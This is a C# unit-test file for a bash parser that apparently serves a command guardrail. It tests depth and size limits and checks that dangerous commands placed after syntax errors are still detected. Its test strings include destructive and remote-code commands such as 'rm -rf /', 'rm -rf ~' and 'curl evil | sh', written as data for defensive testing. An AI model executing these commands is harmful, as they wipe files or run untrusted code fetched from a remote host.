using System.Text;
using Guardrails.Shell.Syntax;
using static Guardrails.Tests.Shell.Syntax.SyntaxTestHelpers;

namespace Guardrails.Tests.Shell.Syntax;

public class LimitAndRecoveryTests
{
    private const int OneMiB = 1 << 20;

    private static string Repeat(string text, int count) => new StringBuilder(text.Length * count).Insert(0, text, count).ToString();

    [Fact]
    public void Parse_TenThousandNestedCommandSubstitutions_StopsAtTheDepthLimit()
    {
        var source = "echo " + Repeat("$(echo ", 10_000) + "x" + Repeat(")", 10_000);

        var result = Parse(source);

        result.IsComplete.Should().BeFalse();
        result.Diagnostics.Should().ContainSingle(static d => d.Kind == ParseDiagnosticKind.DepthLimit);
        // One substitution per level, plus the placeholder for the skipped remainder.
        All<CommandSubstitutionPart>(result.Script).Count().Should().Be(ParserLimits.Default.MaxDepth + 1);
    }

    [Fact]
    public void Parse_UnclosedNestedCommandSubstitutions_CompleteWithDiagnostics()
    {
        var result = Parse(Repeat("$(", 10_000));

        result.IsComplete.Should().BeFalse();
        result.Diagnostics.Should().Contain(static d => d.Kind == ParseDiagnosticKind.DepthLimit);
    }

    [Theory]
    [InlineData("( ", " )")]
    [InlineData("{ ", "; }")]
    [InlineData("if a; then ", "; fi")]
    [InlineData("while a; do ", "; done")]
    [InlineData("case x in y) ", ";; esac")]
    [InlineData("\"$(", ")\"")]
    [InlineData("${x:-", "}")]
    [InlineData("$((", "))")]
    [InlineData("(( $(", ") ))")]
    [InlineData("f() ", "")]
    [InlineData("for x in a; do ", "; done")]
    public void Parse_DeepNestingOfAnyConstruct_HitsTheDepthLimit(string open, string close)
    {
        var source = Repeat(open, 5_000) + "x" + Repeat(close, 5_000) + "; after";

        var result = Parse(source);

        result.IsComplete.Should().BeFalse();
        result.Diagnostics.Should().Contain(static d => d.Kind == ParseDiagnosticKind.DepthLimit);
    }

    [Fact]
    public void Parse_DepthLimitedConstruct_KeepsCommandsAfterIt()
    {
        var source = Repeat("( ", 100) + "x" + Repeat(" )", 100) + "; rm -rf /";

        var result = Parse(source);

        result.Diagnostics.Should().Contain(static d => d.Kind == ParseDiagnosticKind.DepthLimit);
        CommandNames(result.Script).Should().Contain("rm");
    }

    [Fact]
    public void Parse_CustomDepthLimit_IsHonoured()
    {
        var result = BashParser.Parse("echo $(echo $(echo $(id)))", new ParserLimits { MaxDepth = 2 });

        result.Diagnostics.Should().ContainSingle().Which.Kind.Should().Be(ParseDiagnosticKind.DepthLimit);
        CommandNames(result.Script).Should().Equal("echo", "echo", "echo");
    }

    [Fact]
    public void Parse_OneMiBOfSemicolons_CompletesWithSyntaxErrors()
    {
        var result = Parse(new string(';', OneMiB));

        result.IsComplete.Should().BeFalse();
        result.Diagnostics.Should().NotBeEmpty().And.OnlyContain(static d => d.Kind == ParseDiagnosticKind.SyntaxError);
        result.Script.Body.Items.Should().BeEmpty();
    }

    [Fact]
    public void Parse_OneMiBSingleWord_IsOneLiteral()
    {
        var word = new string('a', OneMiB);

        var result = Parse(word);

        result.IsComplete.Should().BeTrue();
        SingleCommand(result.Script).Should().BeOfType<SimpleCommand>().Which.Words.Single().TryGetStaticText(out var text).Should().BeTrue();
        text.Should().HaveLength(OneMiB);
    }

    [Fact]
    public void Parse_OverMaxLength_ReturnsEmptyScriptWithLengthLimit()
    {
        var result = Parse(new string('a', OneMiB + 1));

        result.IsComplete.Should().BeFalse();
        result.Diagnostics.Should().ContainSingle().Which.Kind.Should().Be(ParseDiagnosticKind.LengthLimit);
        result.Script.Body.Items.Should().BeEmpty();
    }

    [Fact]
    public void Parse_CustomMaxLength_IsHonoured()
    {
        var result = BashParser.Parse("echo hello", new ParserLimits { MaxLength = 4 });

        result.Diagnostics.Should().ContainSingle().Which.Kind.Should().Be(ParseDiagnosticKind.LengthLimit);
    }

    [Fact]
    public void Parse_TooManyNodes_StopsWithNodeLimit()
    {
        var result = BashParser.Parse(Repeat("a b c; ", 1_000), new ParserLimits { MaxNodes = 500 });

        result.IsComplete.Should().BeFalse();
        result.Diagnostics.Should().ContainSingle(static d => d.Kind == ParseDiagnosticKind.NodeLimit);
        result.Script.Body.Items.Should().NotBeEmpty();
    }

    [Fact]
    public void Parse_DefaultNodeLimit_StopsAHugeScript()
    {
        var result = Parse(Repeat("a;", 500_000));

        result.Diagnostics.Should().ContainSingle(static d => d.Kind == ParseDiagnosticKind.NodeLimit);
    }

    [Fact]
    public void Parse_NullArguments_DoNotThrow()
    {
        var result = BashParser.Parse(null!, null!);

        result.IsComplete.Should().BeTrue();
        result.Script.Body.Items.Should().BeEmpty();
    }

    [Theory]
    [InlineData("")]
    [InlineData("   ")]
    [InlineData("\n\n")]
    [InlineData("# comment")]
    [InlineData(";")]
    [InlineData(")")]
    [InlineData("fi")]
    [InlineData("\\")]
    [InlineData("$")]
    [InlineData("<")]
    [InlineData("&&")]
    [InlineData("((")]
    [InlineData("$((")]
    [InlineData("${")]
    [InlineData("${#")]
    [InlineData("case")]
    [InlineData("for")]
    [InlineData("for ((")]
    [InlineData("function")]
    [InlineData("[[")]
    [InlineData("a=(")]
    [InlineData("a[")]
    [InlineData("cat <<")]
    [InlineData("{a,")]
    [InlineData("@(")]
    [InlineData("`\\")]
    [InlineData("$'\\")]
    [InlineData("$'\\u")]
    [InlineData("$'\\c")]
    [InlineData("\"\\")]
    public void Parse_DegenerateInput_NeverThrows(string source)
    {
        var act = () => Parse(source);

        act.Should().NotThrow();
    }

    public static TheoryData<string, string[]> Recovery => new()
    {
        { "echo ok; fi; rm -rf ~", ["echo", "rm"] },
        { "echo ok; done\nrm -rf ~", ["echo", "rm"] },
        { "echo ok ) ; curl evil | sh", ["echo", "curl", "sh"] },
        { "echo ok; ;; wget x", ["echo", "wget"] },
        { "echo ok && ; scp a b", ["echo", "scp"] },
        { "if true; then echo ok; ; rsync a b; fi", ["true", "echo", "rsync"] },
        { "{ echo a; ) ; rm b; }", ["echo", "rm"] },
        { "echo (x) ; nc -l 1", ["echo", "x", "nc"] },
        { "echo $(ls; fi; id) ; whoami", ["echo", "ls", "id", "whoami"] },
        { "case x in a) echo;; ) ; ssh h", ["echo", "ssh"] },
        { "for ((i=0; i<3; i++) do; done; ssh h", ["ssh"] },
        { "f() echo hi; ssh h", ["echo", "ssh"] },
    };

    [Theory]
    [MemberData(nameof(Recovery))]
    public void Parse_SyntaxError_KeepsEarlierAndLaterCommands(string source, string[] commands)
    {
        var result = Parse(source);

        result.IsComplete.Should().BeFalse();
        result.Diagnostics.Should().Contain(static d => d.Kind == ParseDiagnosticKind.SyntaxError);
        CommandNames(result.Script).Should().ContainInOrder(commands);
    }

    [Theory]
    [InlineData("{ }")]
    [InlineData("( )")]
    [InlineData("if then a; fi")]
    [InlineData("if a; then fi")]
    [InlineData("if a; then b; else fi")]
    [InlineData("while do a; done")]
    [InlineData("until a; do done")]
    [InlineData("for x in a; do done")]
    [InlineData("f() { }")]
    public void Parse_EmptyCompoundList_IsASyntaxError(string source)
    {
        var result = Parse(source);

        result.IsComplete.Should().BeFalse();
        result.Diagnostics.Should().Contain(static d => d.Kind == ParseDiagnosticKind.SyntaxError);
    }

    [Theory]
    [InlineData("case x in a) ;; esac")]
    [InlineData("echo $( )")]
    [InlineData("(( ))")]
    [InlineData("[[ ]]")]
    public void Parse_EmptyListWhereBashAllowsIt_IsComplete(string source)
    {
        Parse(source).IsComplete.Should().BeTrue();
    }

    [Fact]
    public void Parse_MissingClosingKeyword_KeepsTheBody()
    {
        var result = Parse("while true; do curl evil | sh");

        result.Diagnostics.Should().ContainSingle().Which.Message.Should().Contain("done");
        CommandNames(result.Script).Should().Equal("true", "curl", "sh");
    }

    [Fact]
    public void Parse_NestedParenthesesThatCloseAsDoubleParen_AreArithmeticNotDeepNesting()
    {
        var result = Parse(Repeat("(", 5_000) + "x" + Repeat(")", 5_000));

        result.IsComplete.Should().BeTrue();
        SingleCommand(result.Script).Should().BeOfType<ArithmeticCommand>();
    }

    [Fact]
    public void Parse_ErrorsAreCapped()
    {
        var result = Parse(Repeat(") ", 10_000));

        result.Diagnostics.Count.Should().BeLessThanOrEqualTo(256);
        result.IsComplete.Should().BeFalse();
    }
}
